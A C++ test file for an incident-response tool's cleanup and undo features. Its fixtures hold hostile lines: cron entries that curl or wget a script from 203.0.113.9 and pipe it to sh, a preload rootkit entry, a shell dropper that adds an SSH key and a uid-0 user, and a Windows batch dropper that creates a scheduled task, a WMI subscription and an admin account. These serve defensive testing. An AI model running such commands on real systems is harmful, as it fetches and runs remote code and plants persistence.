// respond --apply and --undo on the Linux lab scenario: a triaged root with a downloader in cron, a preload rootkit
// and a dropped set-uid script; after --apply a new triage finds no persistence, and --undo puts back every file
// byte for byte with its owner, mode, times and extended attributes.
#include <crypt.h>
#include <fcntl.h>
#include <unistd.h>

#include <filesystem>
#include <map>
#include <set>

#include <gtest/gtest.h>
#include <linux/fs.h>
#include <nlohmann/json.hpp>
#include <sqlite3.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#include "casedb/case_db.h"
#include "support/fake_proc.h"
#include "support/test_support.h"

namespace msw {
namespace {
namespace fs = std::filesystem;

test::RunResult ms(std::vector<std::string> args, const fs::path& cwd = {}) {
  args.insert(args.begin(), MSW_BINARY);
  return test::run(args, cwd);
}

struct Snapshot {
  std::string content;
  mode_t mode;
  uid_t uid;
  int64_t mtime_ns;
  std::string xattr;
  bool operator==(const Snapshot&) const = default;
};

std::map<std::string, Snapshot> snapshot(const fs::path& root) {
  std::map<std::string, Snapshot> out;
  for (const auto& e : fs::recursive_directory_iterator(root)) {
    if (!e.is_regular_file()) continue;
    struct stat st {};
    ::lstat(e.path().c_str(), &st);
    char value[64] = {};
    const ssize_t n = ::getxattr(e.path().c_str(), "user.minesweep", value, sizeof value);
    out[e.path().string()] = {test::read_file(e.path()), st.st_mode, st.st_uid,
                              static_cast<int64_t>(st.st_mtim.tv_sec) * 1000000000 + st.st_mtim.tv_nsec,
                              n > 0 ? std::string(value, static_cast<size_t>(n)) : ""};
  }
  return out;
}

std::set<std::string> rules(const fs::path& report) {
  std::set<std::string> out;
  const auto json = nlohmann::json::parse(test::read_file(report));  // kept alive for the loop
  for (const auto& f : json["findings"]) out.insert(f["rule_id"].get<std::string>());
  return out;
}

TEST(Respond, ApplyCleansTheLabAndUndoRestoresIt) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(root / "var/spool/cron/crontabs/root",
                   "# m h dom mon dow command\n*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- "
                   "http://203.0.113.9/pm.sh)|sh\n");
  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
  test::write_file(root / "usr/local/lib/libprocesshider.so", std::string("\x7f"
                                                                          "ELF fake rootkit"));
  const fs::path dropped = root / "tmp/.x.sh";
  test::write_file(dropped, "#!/bin/sh\ncurl http://203.0.113.9/y|sh\n");
  ::chmod(dropped.c_str(), 04755);
  const timespec times[2] = {{1577934245, 123456789}, {1577934245, 123456789}};
  ::utimensat(AT_FDCWD, dropped.c_str(), times, 0);
  const bool xattrs = ::setxattr(dropped.c_str(), "user.minesweep", "kept", 4, 0) == 0;  // not every file system
  const auto before = snapshot(root);

  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  const auto found = rules(dir / "out/report.json");
  EXPECT_TRUE(found.count("heuristic.cron_download_exec"));
  EXPECT_TRUE(found.count("heuristic.ld_so_preload"));

  // Without --yes and without a "yes" on stdin nothing happens.
  EXPECT_EQ(ms({"respond", (dir / "out/case.sqlite").string(), "--apply", "--root", root.string(), "--quarantine",
                (dir / "q0").string()})
                .exit_code,
            2);
  EXPECT_EQ(snapshot(root), before);

  auto apply = ms({"respond", (dir / "out/case.sqlite").string(), "--apply", "--yes", "--root", root.string(),
                   "--quarantine", (dir / "q").string()});
  ASSERT_EQ(apply.exit_code, 0) << apply.out << apply.err;
  EXPECT_FALSE(fs::exists(dropped));
  EXPECT_FALSE(fs::exists(root / "etc/ld.so.preload"));
  EXPECT_NE(test::read_file(root / "var/spool/cron/crontabs/root").find("# removed by minesweep: */30"),
            std::string::npos);
  // The quarantined bytes are not the file: nothing there can run or be found by a scanner as the original.
  for (const auto& e : fs::directory_iterator(dir / "q"))
    if (e.path().extension() == ".q") {
      EXPECT_EQ(test::read_file(e.path()).find("curl http://203.0.113.9"), std::string::npos);
      EXPECT_EQ(fs::status(e.path()).permissions() & fs::perms::all, fs::perms::owner_read);
    }
  // The evidence bundle was not touched; the case records every step and where to undo it.
  EXPECT_TRUE(fs::exists(dir / "out/case.sqlite"));
  auto db = casedb::CaseDb::open((dir / "out/case.sqlite").string(), true);
  ASSERT_TRUE(db);
  auto steps = db->remediation();
  ASSERT_TRUE(steps);
  size_t done = 0;
  for (const auto& st : *steps) {
    done += st.status == "done";
    EXPECT_EQ(st.journal, (dir / "q/journal.jsonl").string());
  }
  EXPECT_EQ(done, 4u);  // a cron line and three files

  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "again").string()}).exit_code, 0)
      << "persistence left after --apply: " << test::read_file(dir / "again/report.json");

  auto undo = ms({"respond", "--undo", (dir / "q/journal.jsonl").string()});
  EXPECT_EQ(undo.exit_code, 0) << undo.out;
  const auto after = snapshot(root);
  EXPECT_EQ(after, before);
  if (xattrs) {
    EXPECT_EQ(after.at(dropped.string()).xattr, "kept");
  }
}

TEST(Respond, ApplyRefusesTargetsInTheEvidence) {
  test::TempDir dir;
  // Scanning a copied tree: the plan's targets are the evidence copies, which --apply must not touch.
  test::write_file(dir / "copy/tmp/.x.sh", "#!/bin/sh\ncurl http://203.0.113.9/y|sh\n");
  test::write_file(dir / "copy/var/spool/cron/crontabs/root", "* * * * * curl -fsSL http://203.0.113.9/pm.sh|sh\n");
  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "copy").string()}).exit_code, 1);
  auto apply = ms({"respond", (dir / "case.sqlite").string(), "--apply", "--yes", "--root", "/", "--quarantine",
                   (dir / "q").string()});
  EXPECT_NE(apply.out.find("[refused]"), std::string::npos) << apply.out;
  EXPECT_TRUE(fs::exists(dir / "copy/var/spool/cron/crontabs/root"));
  EXPECT_EQ(test::read_file(dir / "copy/var/spool/cron/crontabs/root"),
            "* * * * * curl -fsSL http://203.0.113.9/pm.sh|sh\n");
}

// The baseline's weak-password check on Linux: hashes in /etc/shadow tried against the guessing lists at collection
// (the password itself is never stored), then a finding and a lock step in the plan.
TEST(Respond, WeakShadowPasswordsAreFoundAndLocked) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  crypt_data data{};
  const std::string weak = ::crypt_r("admin123", "$6$minesweep$", &data);
  const std::string named = ::crypt_r("deploy2025", "$5$minesweep$", &data);
  const std::string strong = ::crypt_r("c0rrect-h0rse-battery-staple", "$6$minesweep$", &data);
  test::write_file(
      root / "etc/passwd",
      "root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n"
      "deploy:x:1001:1001::/home/deploy:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n");
  test::write_file(root / "etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup.sh\n");
  fs::permissions(root / "etc/cron.d/backup", fs::perms::others_write, fs::perm_options::add);
  test::write_file(
      root / "etc/ssh/sshd_config",
      "# comment\nPermitRootLogin yes\nPasswordAuthentication no\nMatch User backup\n  PasswordAuthentication yes\n");
  test::write_file(root / "etc/shadow", "root:" + strong + ":19000:0:99999:7:::\nops:" + weak +
                                            ":19000:0:99999:7:::\ndeploy:" + named +
                                            ":19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n");
  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  const auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
  std::set<std::string> weak_users;
  for (const auto& f : report["findings"])
    if (f["rule_id"] == "heuristic.suspicious_account" &&
        f["title_en"].get<std::string>().find("guessing lists") != std::string::npos)
      weak_users.insert(f["observables"][0]["value"].get<std::string>());
  EXPECT_EQ(weak_users, (std::set<std::string>{"ops", "deploy"}));
  EXPECT_EQ(test::read_file(dir / "out/bundle/tables/accounts.jsonl").find("admin123"), std::string::npos);
  bool lock = false;
  for (const auto& p : report["plan"]) lock = lock || (p["kind"] == "rotate_credentials" && p["target"] == "ops");
  EXPECT_TRUE(lock);
  // ...and the hardening baseline says so, with the SSH settings collected beside them.
  auto b = ms({"baseline", (dir / "out/case.sqlite").string(), "--json"});
  EXPECT_EQ(b.exit_code, 1) << b.err;
  std::map<std::string, std::string> status;
  const auto checks = nlohmann::json::parse(b.out);
  for (const auto& c : checks["checks"]) status[c["id"].get<std::string>()] = c["status"].get<std::string>();
  EXPECT_EQ(status["LNX-PASSWORDS"], "fail");
  EXPECT_EQ(status["LNX-SSH-ROOT"], "fail");
  EXPECT_EQ(status["LNX-SSH-PASSWORD"], "pass");
  EXPECT_EQ(status["LNX-WRITABLE-PERSISTENCE"], "fail");  // /etc/cron.d/backup is world-writable
  auto script = ms({"respond", (dir / "out/case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()});
  ASSERT_EQ(script.exit_code, 0);
  EXPECT_NE(test::read_file(dir / "r.sh").find("PermitRootLogin prohibit-password"), std::string::npos);
  EXPECT_EQ(test::run({"/bin/bash", "-n", (dir / "r.sh").string()}).exit_code, 0);
  EXPECT_EQ(status.count("WIN-SMB1"), 0u);
}

// ---- issue 22: remediation that never hurts ------------------------------------------------------------------

const std::string kWormLine =
    "*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh";
const std::string kBackupLine = "0 3 * * * /usr/local/bin/backup.sh";

// A triaged root whose crontab has the worm's line; returns the case path.
fs::path triaged_cron_root(const test::TempDir& dir, const fs::path& root) {
  test::write_file(root / "var/spool/cron/crontabs/root", "# m h dom mon dow command\n" + kWormLine + "\n");
  EXPECT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  return dir / "out/case.sqlite";
}

test::RunResult apply(const fs::path& case_path, const fs::path& root, const fs::path& quarantine) {
  return ms({"respond", case_path.string(), "--apply", "--yes", "--root", root.string(), "--quarantine",
             quarantine.string()});
}

// Item 1: the crontab folder becomes a link to a folder outside --root after triage: nothing outside is touched.
TEST(RespondSafety, AFolderLinkOutOfTheRootIsRefused) {
  test::TempDir dir;
  const fs::path root = dir / "root", outside = dir / "outside";
  const fs::path case_path = triaged_cron_root(dir, root);
  const std::string bait = "# m h dom mon dow command\n" + kWormLine + "\n";
  test::write_file(outside / "root", bait);
  fs::remove_all(root / "var/spool/cron/crontabs");
  fs::create_symlink(fs::absolute(outside), root / "var/spool/cron/crontabs");
  auto r = apply(case_path, root, dir / "q");
  EXPECT_NE(r.out.find("[refused] remove_cron_entry"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("is a link to"), std::string::npos) << r.out;
  EXPECT_EQ(test::read_file(outside / "root"), bait);
}

// Item 2: a line added above the worm's after triage; the worm's line is found where it is now.
TEST(RespondSafety, TheFlaggedCronLineIsFoundWhereItIsNow) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  const fs::path case_path = triaged_cron_root(dir, root);
  const fs::path tab = root / "var/spool/cron/crontabs/root";
  test::write_file(tab, "# m h dom mon dow command\n" + kBackupLine + "\n" + kWormLine + "\n");
  auto r = apply(case_path, root, dir / "q");
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("commented out line 3 (moved from line 2 to line 3)"), std::string::npos) << r.out;
  EXPECT_EQ(test::read_file(tab),
            "# m h dom mon dow command\n" + kBackupLine + "\n# removed by minesweep: " + kWormLine + "\n");
  // A second apply finds it done; undo gives the file back as it was before --apply.
  auto again = apply(case_path, root, dir / "q2");
  EXPECT_NE(again.out.find("[skipped] remove_cron_entry"), std::string::npos) << again.out;
  EXPECT_EQ(ms({"respond", "--undo", (dir / "q/journal.jsonl").string()}).exit_code, 0);
  EXPECT_EQ(test::read_file(tab), "# m h dom mon dow command\n" + kBackupLine + "\n" + kWormLine + "\n");
}

// Item 2: the worm's line was replaced by the administrator's job: refused, the file is not touched.
TEST(RespondSafety, AGoneCronLineIsRefusedAndTheFileLeftAlone) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  const fs::path case_path = triaged_cron_root(dir, root);
  const fs::path tab = root / "var/spool/cron/crontabs/root";
  test::write_file(tab, "# m h dom mon dow command\n" + kBackupLine + "\n");
  auto r = apply(case_path, root, dir / "q");
  EXPECT_NE(r.out.find("[refused] remove_cron_entry"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("not in the file any more"), std::string::npos) << r.out;
  EXPECT_EQ(test::read_file(tab), "# m h dom mon dow command\n" + kBackupLine + "\n");
}

// A file flagged by its content (a miner's configuration) is moved only while it is still that file: one replaced
// after triage is refused and left in place, an unchanged one is quarantined.
TEST(RespondSafety, AFileIsQuarantinedOnlyWhileItIsTheFileThatWasFlagged) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  const std::string config = std::string(R"({"pools":[{"url":"pool.supportxmr.com:3333","user":")") +
                             std::string(test::kFakeMinerWallet) + R"(","pass":"x"}]})";
  test::write_file(root / "tmp/.a/config.json", config);
  test::write_file(root / "var/tmp/.b/config.json", config + "\n");
  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  const std::string replaced = R"({"note":"the administrator's own file, written after triage"})";
  test::write_file(root / "tmp/.a/config.json", replaced);
  auto r = apply(dir / "out/case.sqlite", root, dir / "q");
  EXPECT_NE(r.out.find("is not the file that was flagged"), std::string::npos) << r.out;
  EXPECT_EQ(test::read_file(root / "tmp/.a/config.json"), replaced);
  EXPECT_FALSE(fs::exists(root / "var/tmp/.b/config.json")) << r.out;
}

// Item 2 in the generated sh script: the same checks, in dry run and apply mode.
TEST(RespondSafety, TheShScriptFindsTheLineAndRefusesWhenItIsGone) {
  test::TempDir dir;
  const fs::path tab = dir / "copy/var/spool/cron/crontabs/root";
  test::write_file(tab, "# m h dom mon dow command\n" + kWormLine + "\n");
  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "copy").string()}).exit_code, 1);
  ASSERT_EQ(
      ms({"respond", (dir / "case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()}).exit_code, 0);
  auto sh = [&](bool apply_it) {
    std::vector<std::string> argv = {"/usr/bin/env", "MINESWEEP_WORK=" + (dir / "work").string(), "/bin/bash",
                                     (dir / "r.sh").string()};
    if (apply_it) argv.push_back("--apply");
    return test::run(argv, dir.path());
  };
  test::write_file(tab, "# m h dom mon dow command\n" + kBackupLine + "\n" + kWormLine + "\n");
  auto dry = sh(false);
  EXPECT_NE(dry.out.find("would comment out line(s) 3 of"), std::string::npos) << dry.out << dry.err;
  EXPECT_EQ(test::read_file(tab), "# m h dom mon dow command\n" + kBackupLine + "\n" + kWormLine + "\n");
  auto applied = sh(true);
  EXPECT_NE(applied.out.find("commented out line(s) 3 of"), std::string::npos) << applied.out << applied.err;
  EXPECT_EQ(test::read_file(tab),
            "# m h dom mon dow command\n" + kBackupLine + "\n# removed by minesweep: " + kWormLine + "\n");
  EXPECT_NE(sh(true).out.find("skip: already commented out"), std::string::npos);
  test::write_file(tab, kBackupLine + "\n");
  auto gone = sh(true);
  EXPECT_NE(gone.out.find("refused: the flagged line (line 2 at triage) is no longer in"), std::string::npos)
      << gone.out;
  EXPECT_EQ(test::read_file(tab), kBackupLine + "\n");
}

// Item 1 in the sh script: a link on the way that a user owns is refused.
TEST(RespondSafety, TheShScriptRefusesALinkAUserOwns) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root to give a link another owner";
  test::TempDir dir;
  const std::string tab = "# m h dom mon dow command\n" + kWormLine + "\n";
  test::write_file(dir / "copy/var/spool/cron/crontabs/root", tab);
  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "copy").string()}).exit_code, 1);
  ASSERT_EQ(
      ms({"respond", (dir / "case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()}).exit_code, 0);
  fs::rename(dir / "copy/var/spool/cron", dir / "copy/var/spool/elsewhere");
  fs::create_symlink("elsewhere", dir / "copy/var/spool/cron");
  ASSERT_EQ(::lchown((dir / "copy/var/spool/cron").c_str(), 1000, 1000), 0);
  auto r = test::run(
      {"/usr/bin/env", "MINESWEEP_WORK=" + (dir / "work").string(), "/bin/bash", (dir / "r.sh").string(), "--apply"},
      dir.path());
  EXPECT_NE(r.out.find("is a link owned by uid 1000, not root: not followed"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(test::read_file(dir / "copy/var/spool/elsewhere/crontabs/root"), tab);
}

uint32_t file_flags(const fs::path& p) {
  const int fd = ::open(p.c_str(), O_RDONLY | O_NONBLOCK);
  int f = 0;
  if (fd >= 0) {
    if (::ioctl(fd, FS_IOC_GETFLAGS, &f) != 0) f = 0;
    ::close(fd);
  }
  return static_cast<uint32_t>(f);
}
bool chattr(const fs::path& p, const char* how) {
  return test::run({"/usr/bin/chattr", how, p.string()}).exit_code == 0;
}

// Item 3: the TeamTNT trick — an immutable ld.so.preload and an append-only crontab. Cleaned, the crontab locked
// again; undo puts back both files with their flags; everything journalled.
TEST(RespondSafety, ImmutableAndAppendOnlyFilesAreCleanedAndRestored) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
  test::write_file(root / "usr/local/lib/libprocesshider.so", std::string("\x7f"
                                                                          "ELF fake rootkit"));
  const fs::path case_path = triaged_cron_root(dir, root);
  const fs::path tab = root / "var/spool/cron/crontabs/root";
  if (!chattr(root / "etc/ld.so.preload", "+i")) GTEST_SKIP() << "no chattr +i here";
  ASSERT_TRUE(chattr(tab, "+a"));
  auto r = apply(case_path, root, dir / "q");
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_FALSE(fs::exists(root / "etc/ld.so.preload")) << r.out;
  EXPECT_NE(test::read_file(tab).find("# removed by minesweep: "), std::string::npos) << r.out;
  EXPECT_TRUE(file_flags(tab) & FS_APPEND_FL) << "the crontab is append-only again";
  auto undo = ms({"respond", "--undo", (dir / "q/journal.jsonl").string()});
  EXPECT_EQ(undo.exit_code, 0) << undo.out;
  EXPECT_EQ(test::read_file(root / "etc/ld.so.preload"), "/usr/local/lib/libprocesshider.so\n");
  EXPECT_TRUE(file_flags(root / "etc/ld.so.preload") & FS_IMMUTABLE_FL);
  EXPECT_EQ(test::read_file(tab), "# m h dom mon dow command\n" + kWormLine + "\n");
  EXPECT_TRUE(file_flags(tab) & FS_APPEND_FL);
  chattr(root / "etc/ld.so.preload", "-i");
  chattr(tab, "-a");
}

// Item 4: root's guessable password is reset, never locked; the plan, --apply and the script say the same.
TEST(RespondSafety, RootGetsANewPasswordNotALock) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  crypt_data data{};
  const std::string weak_root = ::crypt_r("admin123", "$6$minesweep$", &data);
  const std::string weak_ops = ::crypt_r("123456", "$6$minesweep$", &data);
  test::write_file(root / "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n");
  const std::string shadow = "root:" + weak_root + ":19000:0:99999:7:::\nops:" + weak_ops + ":19000:0:99999:7:::\n";
  test::write_file(root / "etc/shadow", shadow);
  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  auto plan = ms({"respond", (dir / "out/case.sqlite").string()});
  EXPECT_NE(plan.out.find("Set a new random password for root"), std::string::npos) << plan.out;
  EXPECT_NE(plan.out.find("Lock the password of ops"), std::string::npos) << plan.out;
  auto script = ms({"respond", (dir / "out/case.sqlite").string(), "--script", "sh"});
  EXPECT_NE(script.out.find("MODE=reset"), std::string::npos);
  auto r = apply(dir / "out/case.sqlite", root, dir / "q");
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  const size_t at = r.out.find("new password for root: ");
  ASSERT_NE(at, std::string::npos) << r.out;
  const std::string password = r.out.substr(at + 23, 20);
  const std::string now = test::read_file(root / "etc/shadow");
  ASSERT_TRUE(now.starts_with("root:$6$")) << now;  // not locked
  const std::string hash = now.substr(5, now.find(':', 5) - 5);
  EXPECT_EQ(std::string(::crypt_r(password.c_str(), hash.c_str(), &data)), hash);
  EXPECT_NE(now.find("\nops:!" + weak_ops), std::string::npos) << now;
  // The password is shown once: neither the journal nor the case holds it.
  for (const auto& e : fs::directory_iterator(dir / "q"))
    EXPECT_EQ(test::read_file(e.path()).find(password), std::string::npos);
  EXPECT_EQ(test::read_file(dir / "out/case.sqlite").find(password), std::string::npos);
  EXPECT_EQ(ms({"respond", "--undo", (dir / "q/journal.jsonl").string()}).exit_code, 0);
  EXPECT_EQ(test::read_file(root / "etc/shadow"), shadow);
}

// Item 5: what cannot be done is a usage error with the reason, before anything changes.
TEST(RespondSafety, BadUndoAndRootsExitTwoAndAnIncompleteCaseIsSaid) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  const fs::path case_path = triaged_cron_root(dir, root);
  test::write_file(dir / "notes.txt", "not a journal\n");
  auto bad = ms({"respond", "--undo", (dir / "notes.txt").string()});
  EXPECT_EQ(bad.exit_code, 2);
  EXPECT_NE(bad.err.find("not a minesweep journal"), std::string::npos) << bad.err;
  auto missing_root = apply(case_path, dir / "nonexistent", dir / "q0");
  EXPECT_EQ(missing_root.exit_code, 2);
  EXPECT_NE(missing_root.err.find("--root"), std::string::npos) << missing_root.err;
  EXPECT_FALSE(fs::exists(dir / "q0"));
  ASSERT_EQ(apply(case_path, root, dir / "q").exit_code, 0);
  EXPECT_EQ(ms({"respond", "--undo", (dir / "q/journal.jsonl").string()}).exit_code, 0);
  auto twice = ms({"respond", "--undo", (dir / "q/journal.jsonl").string()});
  EXPECT_EQ(twice.exit_code, 2);
  EXPECT_NE(twice.err.find("undone already"), std::string::npos) << twice.err;
  // A run that was killed leaves its case incomplete: --apply says so before it asks.
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(case_path.c_str(), &db), SQLITE_OK);
  sqlite3_exec(db, "UPDATE runs SET status = 'running', finished_ns = NULL, pid = 2147483000", nullptr, nullptr,
               nullptr);
  sqlite3_close(db);
  auto incomplete =
      ms({"respond", case_path.string(), "--apply", "--root", root.string(), "--quarantine", (dir / "q3").string()});
  EXPECT_NE(incomplete.err.find("the case is incomplete"), std::string::npos) << incomplete.err;
}

// Item 6: the plan undoes what a batch dropper did, by the names the dropper used.
TEST(RespondSafety, ThePlanUndoesABatchDropperByItsOwnNames) {
  test::TempDir dir;
  test::write_file(
      dir / "evidence/c3.bat",
      "@echo off\r\n"
      "schtasks /create /tn \"Mysa9\" /tr \"cmd /c start c:\\windows\\debug\\lsmose.exe\" /ru system /sc onstart /F\r\n"
      "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
      "Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 10800\"\r\n"
      "echo 127.0.0.1 www.360.cn >> %windir%\\system32\\drivers\\etc\\hosts\r\n"
      "net user admin$ P@ss123 /add\r\n");
  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "evidence").string()}).exit_code,
            1);
  auto plan = ms({"respond", (dir / "case.sqlite").string()});
  for (const char* step :
       {"[remove_scheduled_task] Mysa9", "[remove_wmi_subscription] __EventFilter.Name=\"fuckyoumm3\"",
        "[restore_hosts_file] C:\\Windows\\System32\\drivers\\etc\\hosts", "[rotate_credentials] admin$"})
    EXPECT_NE(plan.out.find(step), std::string::npos) << step << "\n" << plan.out;
  EXPECT_EQ(plan.out.find("[remove_scheduled_task] Mysa1"), std::string::npos)
      << "a family's usual names are not evidence";
  auto ps1 = ms({"respond", (dir / "case.sqlite").string(), "--script", "ps1"});
  EXPECT_NE(ps1.out.find("$Target = 'Mysa9'"), std::string::npos);
  EXPECT_NE(ps1.out.find("$Expected = '127.0.0.1 www.360.cn'"), std::string::npos);
}

// A shell dropper as worms leave them: a cron line, an SSH key and a hosts line appended, then `more` commands.
std::string shell_dropper(const std::string& cron, const std::string& key, const std::string& more = "") {
  return "#!/bin/sh\necho '" + cron + "' >> /etc/crontab\necho '" + key +
         "' >> ~/.ssh/authorized_keys\necho '127.0.0.1 minexmr.com' >> /etc/hosts\n" + more;
}

// Item 6 on a Linux root: what a shell dropper wrote into the system's own files is commented out, the
// administrator's lines stay, and undo puts everything back.
TEST(RespondSafety, ApplyUndoesAShellDropperAndKeepsTheAdministratorsLines) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  const std::string worm_cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/pm.sh|sh";
  const std::string worm_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCworm worm@x";
  test::write_file(root / "tmp/.x.sh", shell_dropper(worm_cron, worm_key));
  fs::permissions(root / "tmp/.x.sh", fs::perms::owner_all, fs::perm_options::add);  // droppers are made executable
  const std::string crontab =
      "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n" + worm_cron + "\n";
  const std::string keys = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@laptop\n" + worm_key + "\n";
  const std::string hosts = "127.0.0.1 localhost\n127.0.0.1 minexmr.com\n";
  test::write_file(root / "etc/crontab", crontab);
  test::write_file(root / "root/.ssh/authorized_keys", keys);
  test::write_file(root / "etc/hosts", hosts);
  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  auto r = apply(dir / "out/case.sqlite", root, dir / "q");
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(test::read_file(root / "etc/crontab"),
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n# removed by minesweep: " +
                worm_cron + "\n")
      << r.out;
  EXPECT_EQ(test::read_file(root / "root/.ssh/authorized_keys"),
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@laptop\n# removed by minesweep: " + worm_key + "\n")
      << r.out;
  EXPECT_EQ(test::read_file(root / "etc/hosts"), "127.0.0.1 localhost\n# removed by minesweep: 127.0.0.1 minexmr.com\n")
      << r.out;
  EXPECT_FALSE(fs::exists(root / "tmp/.x.sh")) << r.out;
  EXPECT_EQ(ms({"respond", "--undo", (dir / "q/journal.jsonl").string()}).exit_code, 0);
  EXPECT_EQ(test::read_file(root / "etc/crontab"), crontab);
  EXPECT_EQ(test::read_file(root / "root/.ssh/authorized_keys"), keys);
  EXPECT_EQ(test::read_file(root / "etc/hosts"), hosts);
  EXPECT_TRUE(fs::exists(root / "tmp/.x.sh"));
}

// Items 1–4 and 6 for the generated sh script, which acts on the live system's own paths: run with --apply in a
// private mount namespace where /etc and /root are copies, so the host's files are never touched.
TEST(RespondSafety, TheShScriptUndoesADropperInAPrivateMountNamespace) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for a mount namespace";
  if (test::run({"/usr/bin/unshare", "-m", "--propagation", "private", "/bin/true"}).exit_code != 0)
    GTEST_SKIP() << "no mount namespaces here";
  test::TempDir dir;
  const std::string worm_cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/pm.sh|sh";
  const std::string worm_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCworm worm@x";
  test::write_file(dir / "ev/tmp/.x.sh",
                   shell_dropper(worm_cron, worm_key, "useradd -o -u 0 -g 0 -M -s /bin/bash hilde\n"));
  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "ev").string()}).exit_code, 1);
  ASSERT_EQ(
      ms({"respond", (dir / "case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()}).exit_code, 0);
  // The system as the dropper left it, in copies.
  ASSERT_EQ(test::run({"/bin/cp", "-a", "/etc", (dir / "etc").string()}).exit_code, 0);
  const std::string admin_cron = "17 * * * * root cd / && run-parts --report /etc/cron.hourly";
  test::write_file(dir / "etc/crontab", admin_cron + "\n" + worm_cron + "\n");
  test::write_file(dir / "etc/hosts", "127.0.0.1 localhost\n127.0.0.1 minexmr.com\n");
  test::write_file(dir / "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nadmin admin@laptop\n" + worm_key + "\n");
  test::write_file(dir / "etc/passwd", test::read_file(dir / "etc/passwd") + "hilde:x:0:0::/root:/bin/bash\n");
  std::string shadow = test::read_file(dir / "etc/shadow");
  shadow = "root:$6$minesweep$usable:19000:0:99999:7:::\n" + shadow.substr(shadow.find('\n') + 1) +
           "hilde:$6$worm$hash:19000:0:99999:7:::\n";
  test::write_file(dir / "etc/shadow", shadow);
  const std::string host_hosts = test::read_file("/etc/hosts");
  auto in_namespace = [&](const std::string& args) {
    return test::run({"/usr/bin/unshare", "-m", "--propagation", "private", "/bin/bash", "-c",
                      "mount --bind " + (dir / "etc").string() + " /etc && mount --bind " + (dir / "root").string() +
                          " /root && MINESWEEP_WORK=" + (dir / "work").string() + " bash " + (dir / "r.sh").string() +
                          args});
  };
  auto dry = in_namespace("");
  EXPECT_NE(dry.out.find("would comment out line(s) 2 of /etc/crontab"), std::string::npos) << dry.out << dry.err;
  EXPECT_NE(dry.out.find("would lock the password of hilde"), std::string::npos) << dry.out;
  EXPECT_EQ(test::read_file(dir / "etc/crontab"), admin_cron + "\n" + worm_cron + "\n");
  auto applied = in_namespace(" --apply");
  EXPECT_EQ(applied.exit_code, 0) << applied.out << applied.err;
  EXPECT_EQ(test::read_file(dir / "etc/crontab"), admin_cron + "\n# removed by minesweep: " + worm_cron + "\n")
      << applied.out;
  EXPECT_EQ(test::read_file(dir / "etc/hosts"), "127.0.0.1 localhost\n# removed by minesweep: 127.0.0.1 minexmr.com\n");
